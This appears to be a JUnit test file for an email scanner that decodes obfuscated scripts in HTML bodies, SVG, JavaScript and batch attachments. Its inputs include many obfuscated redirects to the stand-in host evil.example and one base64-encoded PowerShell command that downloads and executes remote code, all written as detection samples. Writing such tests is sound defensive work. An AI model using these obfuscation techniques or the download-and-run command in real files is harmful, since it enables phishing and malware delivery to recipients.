package org.bloomgate.content.mime;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Base64;
import java.util.Set;
import org.bloomgate.core.key.Place;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What scripts put together in one step, in the body and in attached files.
class ScriptsTest {
    private static ReadMessage attached(String name, String content) {
        return ReadMessage.of(("Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
                        + "Content-Disposition: attachment; filename=\"" + name + "\"\r\n\r\n"
                        + Base64.getMimeEncoder().encodeToString(content.getBytes(ISO_8859_1)))
                .getBytes(ISO_8859_1));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "location=atob(\"aHR0cDovL2V2aWwuZXhhbXBsZS94\")",
                "var a='aHR0cDovL2V2aWwuZXhhbXBsZS94'",
                "location=atob('aHR0cDov'+'L2V2aWwuZXhhbXBsZS94')",
                "location=unescape('%68%74%74%70%3A%2F%2Fevil.example')",
                "location=unescape('%u0068ttp://evil.example')",
                "location=decodeURIComponent('http%3A//evil.example')",
                "location=String.fromCharCode(104,116,116,112,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101)",
                "location=String.fromCharCode(0x68,0x74,0x74)+'p://evil.example'",
                "x=[104,116,116,112,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101].map(f)",
                "location='\\x68\\x74tp://evil.example'",
                "location='\\u0068ttp://evil.ex\\u{61}mple'",
                "location='\\150ttp://evil.example'",
                "location='elpmaxe.live//:ptth'.split('').reverse().join('')",
                "location='htt'+'p://ev' + /**/ \"il.example\"",
                "location=['http:','//evil','.example'].join('')",
                "location=('ht').concat('tp://evil.example')",
                "x='687474703a2f2f6576696c2e6578616d706c652f78'",
                "document.write(atob('PGEgaHJlZj0iLy9ldmlsLmV4YW1wbGUveCI+eDwvYT4='))"
            })
    void encodedLiteral_isDecoded(String script) {
        ReadMessage body = ReadMessage.html("<p>x</p><script>" + script + "</script>");
        assertTrue(body.holds(Place.SCRIPT, "evil.example"), () -> "" + body);
        ReadMessage file = attached("x.html", "<p>x</p><script>" + script + "</script>");
        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
        assertEquals(Set.of(), file.limits());
    }

    @Test
    void scriptOfAnAttachedFile_isReadUndecodedToo() {
        assertTrue(attached("x.html", "<script>location='http://evil.example'</script>")
                .holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
        assertTrue(attached("x.js", "GetObject('script:'+'http://evil.example')")
                .holds(Place.SCRIPT_ATTACHMENT, "evil.example"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "var a='http://ev',b='il.ex',c='ample';location=a+b+c",
                "location=a+b;var a='http://ev';var b='il.example'",
                "let u='';u+='http:';u+='//evil';u+='.example';location=u",
                "const h='evil.example';location=`http://${h}/x`",
                "var k='aHR0cDovL2V2',m='aWwuZXhhbXBsZS94';location=atob(k+m)",
                "x={};x.a='http://ev';x.b='il.example';location=x.a+x.b"
            })
    void variable_isReplacedByItsText(String script) {
        ReadMessage file = attached("x.html", "<p>x</p><script>" + script + "</script>");
        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
        assertEquals(Set.of(), file.limits());
    }

    @Test
    void expansionOfVariables_isBounded() {
        String doubled = "a='" + "x y".repeat(50) + "';" + "a=a+a;".repeat(30);
        assertEquals(Set.of("scripts"), attached("x.js", doubled).limits());
        String many = java.util.stream.IntStream.range(0, 1_001)
                .mapToObj(i -> "n" + i + "='x';")
                .collect(java.util.stream.Collectors.joining());
        assertEquals(Set.of("scripts"), attached("x.js", many).limits());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<svg xmlns='http://www.w3.org/2000/svg'><script>location='http://'+'evil.example'</script></svg>",
                "<svg><script><![CDATA[location='http://'+'evil.example']]></script></svg>",
                "<svg><script>location=&quot;http://&quot;+&#34;evil.example&#34;</script></svg>",
                "<svg><script>location='http://'<!-- x -->+'evil.example'</script></svg>",
                "<svg><g><script type='a'>var a='http://ev'<![CDATA[;location=a+'il.example']]></script></g></svg>"
            })
    void scriptOfAnSvg_isRead(String svg) {
        ReadMessage file = attached("x.svg", svg);
        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "document.write(unpack('qwertz'))",
                "location=decode(['a1','b2'])",
                "document.body.innerHTML=f(x)",
                "window['loca'+'tion']=f(x)",
                "eval(z)",
                "x=createElementNS('http://www.w3.org/2000/svg','a');location=f(x)"
            })
    void activeScriptWithoutALink_isOpaque(String script) {
        assertEquals(
                Set.of("scriptOpaque"),
                attached("x.html", "<p>x</p><script>" + script + "</script>").limits());
        assertEquals(
                Set.of("scriptOpaque"),
                attached("x.svg", "<svg><script>" + script + "</script></svg>").limits());
        assertEquals(
                Set.of(),
                ReadMessage.html("<p>x</p><script>" + script + "</script>").limits(),
                "no client runs it");
    }

    @Test
    void scriptOfSymbolsOnly_isOpaque() {
        assertEquals(
                Set.of("scriptOpaque"),
                attached("x.html", "<script>" + "[][(![]+[])[+[]]]+".repeat(20) + "[]</script>")
                        .limits());
    }

    @ParameterizedTest
    @ValueSource(strings = {"x.js", "x.html"})
    void scriptThatOnlyAnInterpreterReads_isOpaqueWhateverItsLinks(String name) {
        String link = "/* http://a.example/ */";
        String begin = name.equals("x.js") ? "" : "<script>";
        String end = name.equals("x.js") ? "" : "</script>";
        String symbols = "[][(![]+[])[+[]]]+".repeat(20) + "[]";
        assertEquals(
                Set.of("scriptOpaque"),
                attached(name, begin + link + symbols + end).limits());
        assertEquals(
                Set.of("scriptOpaque"),
                attached(name, begin + link + "#@~^IAAAAA==-mD,X'xh,b1Yb^#~@" + end)
                        .limits());
    }

    @Test
    void harmlessScript_isNotOpaque() {
        assertEquals(
                Set.of(),
                attached("x.html", "<script>var n=1;function f(){n++}</script>").limits());
    }

    @Test
    void attributeDecodedByAScript_isRead() {
        ReadMessage file =
                attached("x.html", "<div data-x='aHR0cDovL2V2aWwuZXhhbXBsZS94'></div><script>go(d.dataset.x)</script>");
        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
    }

    @Test
    void encodedShellCommand_isRead() {
        String wide = Base64.getEncoder()
                .encodeToString("iwr http://evil.example/x|iex".getBytes(java.nio.charset.StandardCharsets.UTF_16LE));
        ReadMessage file = attached("run.bat", "powershell -enc " + wide + "\r\n");
        assertTrue(file.holds(Place.SCRIPT_ATTACHMENT, "evil.example"), () -> "" + file);
    }

    @Test
    void decodedText_isBounded() {
        String piece = "'" + "a b".repeat(100) + "'+'c';";
        assertEquals(Set.of(), attached("x.js", piece.repeat(800)).limits());
        assertEquals(Set.of("scripts"), attached("x.js", piece.repeat(900)).limits());
    }
}
